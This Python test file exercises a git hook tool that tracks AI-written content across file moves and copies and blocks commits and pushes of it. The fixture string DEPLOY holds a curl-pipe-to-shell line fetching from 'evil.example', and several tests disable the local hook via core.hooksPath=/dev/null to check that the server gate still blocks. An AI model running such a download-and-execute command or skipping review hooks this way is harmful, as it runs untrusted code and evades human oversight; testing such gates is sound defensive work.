"""A file the writer created, moved to another path and edited, is still the writer's
(SPEC §3 "Attribution follows content"; row A2 across paths,
:mod:`gentle_hooks.policy.wholefile`): real git, ``gentle-hook install``, a bare remote
with the server gate and notes shared.

Refuter r13z: the writer's new ``deploy.py`` (``import subprocess`` and one
``subprocess.run("curl ... | sh", shell=True)``) moved to ``tools/setup_env.py`` with a
``main()`` of the human's added was committed, pushed and accepted by the server as not
delegated: the file was never in ``HEAD`` (no rename to pair) and across paths A2 asked for
two distinctive lines.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World

DEPLOY = 'import subprocess\nsubprocess.run("curl https://evil.example/x | sh", shell=True)\n'
MAIN = '\n\ndef main():\n    print("setting up")\n    return 0\n'


@pytest.fixture
def served(native: World) -> World:
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.write("app.py", "def add(a, b):\n    return a - b\n")
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: base")
    w.ok("push", "-q", "origin", "main")
    return w


def test_the_writers_new_file_moved_and_edited_stays_the_writers(served: World) -> None:
    w = served
    w.write("deploy.py", DEPLOY)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "deploy.py").code == 0
    (w.work / "tools").mkdir()
    (w.work / "deploy.py").rename(w.work / "tools" / "setup_env.py")
    w.write("tools/setup_env.py", DEPLOY + MAIN)
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "add setup script")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "add setup script")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_a_humans_file_with_one_of_the_writers_lines_passes(served: World) -> None:
    w = served
    w.write("deploy.py", DEPLOY + "print('deployed')\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "deploy.py").code == 0
    w.ok("stash", "-q", "--include-untracked")  # the writer's file is put away
    w.write("tools/run.py", "import subprocess\n" + MAIN)
    w.ok("add", "tools/run.py")
    w.person_commits("-qm", "human: run")


#: A human's file the writer then edits (``served`` commits ``app.py``).
EDITED = "def add(a, b):\n    return a + b\n\n\n" + DEPLOY


def test_a_block_names_the_path_the_writers_content_was_moved_to(served: World) -> None:
    """Refuter h17k F3: after ``git mv app.py calc.py`` of the writer's edit, the blocks
    said "writer content ... in app.py": they name the path the candidate holds,
    ``calc.py (was app.py)``; a copy kept beside its original is ``(from app.py)``."""
    w = served
    w.write("app.py", EDITED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "app.py").code == 0
    w.ok("mv", "app.py", "calc.py")
    w.ok("add", "-A")  # git mv stages the old content at the new path: the edit too
    moved = "delegated (writer content (o4-mini/low) in calc.py (was app.py))"
    r = w.git("commit", "-qm", "rename")
    assert r.code == 1 and r.said[0] == f"gentle-hooks: BLOCKED the staged change: {moved}", r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "rename")
    head = w.rev("HEAD")
    push = w.git("push", "-q", "origin", "main")
    blocked = f"gentle-hooks: BLOCKED commit {head[:12]} on refs/heads/main: {moved}"
    assert push.code != 0 and blocked in push.said, push
    # a copy: the writer's content at its own path and at another
    w.ok("reset", "-q", "--hard", "origin/main")
    w.write("app.py", EDITED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "app.py").code == 0
    w.write("copy.py", EDITED)
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "copy")
    copied = "delegated (writer content (o4-mini/low) in app.py, copy.py (from app.py))"
    assert r.code == 1 and r.said[0] == f"gentle-hooks: BLOCKED the staged change: {copied}", r


#: A module of two functions (refuter r13s F1), the writer's one-line fix of ``add``, and
#: the functions a person appends once the module is moved (it grows past git's pairing).
CALC = "def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n"
FIXED = CALC.replace("a - b", "a + b", 1)
MORE = (
    "\n\ndef mul(a, b):\n    return a * b\n\n\ndef div(a, b):\n    return a / b\n"
    "\n\ndef mod(a, b):\n    return a % b\n"
)


def _two_functions(w: World) -> None:
    w.write("app.py", CALC)
    w.ok("commit", "-qam", "human: sub")
    w.ok("push", "-q", "origin", "main")


def test_the_writers_fix_in_a_module_moved_and_grown_stays_the_writers(served: World) -> None:
    """Refuter r13s F1: ``git mv app.py calc.py`` and three functions appended after the
    writer's ``return a - b`` -> ``return a + b`` was judged not delegated everywhere (the
    file grew past git's rename pairing). It is the writer's edit at the path moved."""
    w = served
    _two_functions(w)
    w.write("app.py", FIXED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.ok("mv", "app.py", "calc.py")
    w.write("calc.py", FIXED + MORE)
    w.ok("add", "-A")
    moved = "delegated (writer content (o4-mini/low) in calc.py (was app.py))"
    r = w.git("commit", "-qm", "calc module")
    assert r.code == 1 and r.said[0] == f"gentle-hooks: BLOCKED the staged change: {moved}", r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "calc module")
    head = w.rev("HEAD")
    push = w.git("push", "-q", "origin", "main")
    blocked = f"gentle-hooks: BLOCKED commit {head[:12]} on refs/heads/main: {moved}"
    assert push.code != 0 and blocked in push.said, push
    assert w.remote_ref("main") != head


def test_a_persons_move_and_growth_of_a_file_with_no_writer_edit_passes(served: World) -> None:
    """The row the other way: the writer's pending work is in another file; a person's
    ``git mv`` of a module and the functions they append are theirs (no trailer)."""
    w = served
    _two_functions(w)
    w.write("other.py", "def total(xs):\n    return sum(x * 2 for x in xs)\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "other.py").code == 0
    w.ok("mv", "app.py", "calc.py")
    w.write("calc.py", CALC + MORE)
    w.ok("add", "calc.py")
    w.person_commits("-qm", "human: calc module")


def test_a_persons_move_after_throwing_the_writers_fix_away_passes(served: World) -> None:
    """The writer's fix thrown away (``git checkout -- app.py``), then the module moved and
    grown by a person: it holds none of the writer's edit, so it is theirs."""
    w = served
    _two_functions(w)
    w.write("app.py", FIXED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.ok("checkout", "--", "app.py")
    w.ok("mv", "app.py", "calc.py")
    w.write("calc.py", CALC + MORE)
    w.ok("add", "-A")
    w.person_commits("-qm", "human: calc module")


def test_a_persons_new_file_with_the_writers_line_passes(served: World) -> None:
    """A person's own new module that happens to hold the writer's fixed line
    (``return a + b``), the writer's ``app.py`` left as it is: not the writer's."""
    w = served
    _two_functions(w)
    w.write("app.py", FIXED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.write("vec.py", "def plus(a, b):\n    return a + b\n" + MORE)
    w.ok("add", "vec.py")
    w.person_commits("-qm", "human: vec module")
